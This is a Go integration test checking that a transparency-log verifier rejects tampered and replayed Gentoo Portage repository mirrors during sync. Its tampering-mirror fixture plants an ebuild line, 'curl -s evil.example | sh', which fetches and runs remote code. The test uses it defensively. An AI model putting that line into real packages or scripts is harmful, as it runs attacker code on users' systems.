//go:build portage

package main

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestPortage runs Portage itself, from the source checkout in
// $PORTAGE_SRC (scripts/portage PORTAGE_SRC), syncing a repository with
// Debian's rsync from rsync daemons on loopback that serve an honest
// mirror, a tampering mirror and a replaying mirror of a tree published
// to a real treelog log with witnesses, with treelog's hooks installed as
// a user installs them. The honest sync succeeds and verifies; the others
// make `emaint sync` (and `emerge --sync`) fail, saying why, and leave the
// last verified tree in place.
func TestPortage(t *testing.T) {
	src := sourceDir(t, "PORTAGE_SRC", "bin/emaint", "scripts/portage", "github.com/gentoo/portage")
	for _, tool := range []string{"rsync", "python3"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Fatalf("this test needs %s: %v", tool, err)
		}
	}
	dir, bin, netDir, n := startReal(t, "example.org/tree")

	run := func(name string, args ...string) string {
		t.Helper()
		out, err := exec.Command(name, args...).CombinedOutput()
		if err != nil {
			t.Fatalf("%s %s: %v\n%s", name, strings.Join(args, " "), err, out)
		}
		return string(out)
	}
	publish := func(tree string) {
		t.Helper()
		t.Log(strings.TrimSpace(run(bin, "publish", "--key", filepath.Join(netDir, "publisher.key"), "--origin", "example.org/tree",
			"--log", n.LogURL, "--policy", filepath.Join(netDir, "policy"), tree)))
	}
	stamp := func(tree string, t0 time.Time) {
		t.Helper()
		writeFile(t, filepath.Join(tree, "metadata/timestamp.chk"), t0.UTC().Format("Mon, 02 Jan 2006 15:04:05 +0000")+"\n")
	}

	// The publisher's tree: snapshot 1, then snapshot 2.
	master := filepath.Join(dir, "master")
	writeFile(t, filepath.Join(master, "profiles/repo_name"), "test\n")
	writeFile(t, filepath.Join(master, "metadata/layout.conf"), "masters =\nthin-manifests = true\n")
	writeFile(t, filepath.Join(master, "app-misc/hello/hello-1.0.ebuild"), "EAPI=8\nDESCRIPTION=\"Hello\"\nSLOT=0\n")
	writeFile(t, filepath.Join(master, "app-misc/hello/metadata.xml"), "<pkgmetadata/>\n")
	now := time.Now()
	stamp(master, now.Add(-2*time.Second))
	publish(master)
	mirrors := filepath.Join(dir, "mirrors")
	os.MkdirAll(mirrors, 0o755)
	replay := filepath.Join(mirrors, "replay")
	run("rsync", "-a", master+"/", replay+"/")
	time.Sleep(1100 * time.Millisecond)
	writeFile(t, filepath.Join(master, "app-misc/hello/hello-1.1.ebuild"), "EAPI=8\nDESCRIPTION=\"Hello, fixed\"\nSLOT=0\n")
	stamp(master, now)
	publish(master)
	honest := filepath.Join(mirrors, "honest")
	run("rsync", "-a", master+"/", honest+"/")

	// A tampering mirror changes an ebuild; a replaying one serves
	// snapshot 1 (its genuine MetaManifest and proof). Both announce a
	// newer metadata/timestamp.chk (not covered by Manifests), or Portage
	// would not even sync from them.
	tamper := filepath.Join(mirrors, "tamper")
	run("rsync", "-a", master+"/", tamper+"/")
	writeFile(t, filepath.Join(tamper, "app-misc/hello/hello-1.1.ebuild"), "EAPI=8\nDESCRIPTION=\"Hello\"\nSLOT=0\npkg_setup() { curl -s evil.example | sh; }\n")
	stamp(tamper, now.Add(time.Hour))
	stamp(replay, now.Add(2*time.Hour))

	// rsync daemons on loopback, on a port the test picks.
	port := freePort(t)
	conf := filepath.Join(dir, "rsyncd.conf")
	var mods strings.Builder
	fmt.Fprintf(&mods, "use chroot = no\n")
	for _, m := range []string{"honest", "tamper", "replay"} {
		fmt.Fprintf(&mods, "[%s]\npath = %s\nread only = yes\n", m, filepath.Join(mirrors, m))
	}
	writeFile(t, conf, mods.String())
	rsyncd := exec.Command("rsync", "--daemon", "--no-detach", "--config="+conf, fmt.Sprintf("--port=%d", port), "--address=127.0.0.1", "--log-file="+filepath.Join(dir, "rsyncd.log"))
	if err := rsyncd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { rsyncd.Process.Kill(); rsyncd.Wait() }()
	waitPort(t, port)

	// The user's system: a Portage prefix with the repository, treelog's
	// hooks installed, and the repository's settings.
	prefix := filepath.Join(dir, "prefix")
	location := filepath.Join(prefix, "var/db/repos/test")
	configDir := filepath.Join(prefix, "etc/treelog/portage")
	stateDir := filepath.Join(prefix, "var/lib/treelog/portage")
	t.Log(strings.TrimSpace(run(bin, "portage", "install", "--root", prefix, "--config-dir", configDir, "--state", stateDir)))
	writeFile(t, filepath.Join(configDir, "test.conf"), fmt.Sprintf("origin example.org/tree\npolicy %s\npublishers %s\nmax-age 1h\n",
		filepath.Join(netDir, "policy"), filepath.Join(netDir, "publishers")))
	// Portage's own default repository (gentoo, from its cnf/repos.conf)
	// is not synced: this machine has no network.
	writeFile(t, filepath.Join(prefix, "etc/portage/repos.conf/gentoo.conf"), "[gentoo]\nauto-sync = no\n")
	sync := func(mirror string, cmd ...string) (string, int) {
		t.Helper()
		writeFile(t, filepath.Join(prefix, "etc/portage/repos.conf/test.conf"), fmt.Sprintf(
			"[test]\nlocation = %s\nsync-type = rsync\nsync-uri = rsync://127.0.0.1:%d/%s\nauto-sync = yes\n", location, port, mirror))
		c := exec.Command("python3", append([]string{filepath.Join(src, "bin", cmd[0])}, cmd[1:]...)...)
		c.Env = append(os.Environ(), "PORTAGE_OVERRIDE_EPREFIX="+prefix, "PORTAGE_USERNAME=root", "PORTAGE_GRPNAME=root")
		out, err := c.CombinedOutput()
		code := 0
		if ee, ok := err.(*exec.ExitError); ok {
			code = ee.ExitCode()
		} else if err != nil {
			t.Fatal(err)
		}
		t.Logf("$ %s  (sync-uri .../%s)\n%s[exit status %d]", strings.Join(cmd, " "), mirror, out, code)
		return string(out), code
	}
	for _, step := range []struct {
		mirror string
		cmd    []string
		code   int
		want   []string
	}{
		{"honest", []string{"emaint", "sync", "-r", "test"}, 0, []string{"ok      tree", "repository 'test' verified: example.org/tree snapshot", "test: verified at its last sync"}},
		{"tamper", []string{"emaint", "sync", "-r", "test"}, 1, []string{"repository 'test' did NOT verify: refused", "app-misc/hello/hello-1.1.ebuild: modified",
			"is back to the last verified snapshot", "test: NOT VERIFIED at its last sync", "1 repository did not verify"}},
		{"replay", []string{"emerge", "--sync"}, 1, []string{"repository 'test' did NOT verify: refused", "rollback", "is back to the last verified snapshot"}},
		{"honest", []string{"emaint", "sync", "-r", "test"}, 0, []string{"test: verified at its last sync"}},
	} {
		out, code := sync(step.mirror, step.cmd...)
		if code != step.code {
			t.Errorf("%s from the %s mirror: exit status %d, want %d", strings.Join(step.cmd, " "), step.mirror, code, step.code)
		}
		for _, w := range step.want {
			if !strings.Contains(out, w) {
				t.Errorf("%s from the %s mirror: Portage's output lacks %q", strings.Join(step.cmd, " "), step.mirror, w)
			}
		}
		// Whatever the mirror sent, the repository is the last verified
		// snapshot: the publisher's newest tree.
		if out, err := exec.Command("diff", "-r", "-x", "timestamp.chk", master, location).CombinedOutput(); err != nil {
			t.Errorf("after syncing from the %s mirror, the repository is not the last verified snapshot:\n%s", step.mirror, out)
		}
	}
}

func freePort(t *testing.T) int {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	return ln.Addr().(*net.TCPAddr).Port
}

func waitPort(t *testing.T, port int) {
	t.Helper()
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		if c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", port)); err == nil {
			c.Close()
			return
		}
	}
	t.Fatalf("rsync daemon did not listen on 127.0.0.1:%d", port)
}
